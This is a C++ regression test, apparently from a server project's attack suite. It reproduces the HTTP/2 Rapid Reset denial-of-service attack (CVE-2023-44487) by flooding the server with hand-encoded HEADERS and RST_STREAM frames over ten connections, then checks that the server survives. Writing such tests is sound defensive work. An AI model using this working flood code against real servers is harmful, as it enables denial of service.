// Unauthenticated clients start calls and cancel each immediately: costly for the server, cheap for them
// (CVE-2023-44487).
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/str_cat.h"
#include "engine/base/clock.h"
#include "tests/attack/attack.h"
#include "tests/attack/sockets.h"

namespace kinora {
namespace {

constexpr int kConnections = 10;
constexpr uint32_t kCalls = 200'000;  // per connection
constexpr absl::Duration kAttack = absl::Seconds(15);

// HTTP/2 (RFC 9113): HEADERS of a call to an unknown method, then RST_STREAM with CANCEL.
std::string BegunAndDropped(uint32_t stream) {
  const auto big_endian = [](uint32_t value) {
    return std::string{static_cast<char>(value >> 24), static_cast<char>(value >> 16), static_cast<char>(value >> 8),
                       static_cast<char>(value)};
  };
  // :method POST, :scheme http, then literals without indexing: :path (name index 4) and content-type (31).
  static const std::string kFields =
      absl::StrCat("\x83\x86", std::string("\x04\x02/x", 4), std::string("\x0f\x10\x10", 3), "application/grpc");
  const std::string length = big_endian(static_cast<uint32_t>(kFields.size())).substr(1);
  return absl::StrCat(length, "\x01\x04", big_endian(stream), kFields, std::string("\0\0\x04\x03\0", 5),
                      big_endian(stream), big_endian(8));
}

void Reset(const std::string& address, Effort& effort) {
  const FileDescriptor socket = ConnectTo(address);
  if (!socket.ok()) return;
  ++effort.connections;
  std::string out = absl::StrCat("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", std::string("\0\0\0\x04\0\0\0\0\0", 9));
  Clock& clock = Clock::Steady();
  uint32_t begun = 0;
  for (const absl::Time end = clock.Now() + kAttack; clock.Now() < end && (begun < kCalls || !out.empty());) {
    for (; begun < kCalls && out.size() < 1 << 16; ++begun) out += BegunAndDropped(2 * begun + 1);
    const int n = SendSome(socket, out);  // the server's answers are not read
    if (n < 0) return;
    effort.bytes += n;
    out.erase(0, static_cast<size_t>(n));
    if (n == 0) std::this_thread::yield();
  }
}

absl::Status ResetAll(const Target& target, Effort& effort) {
  std::vector<std::thread> threads;
  threads.reserve(kConnections);
  for (int i = 0; i < kConnections; ++i) threads.emplace_back([&] { Reset(target.address(), effort); });
  for (std::thread& thread : threads) thread.join();
  return target.Serves();
}

}  // namespace
}  // namespace kinora

int main() {
  return kinora::RunAttack(
      {.name = "rapid_resets", .flags = {}, .most_growth_bytes = 256 << 20, .attack = kinora::ResetAll});
}
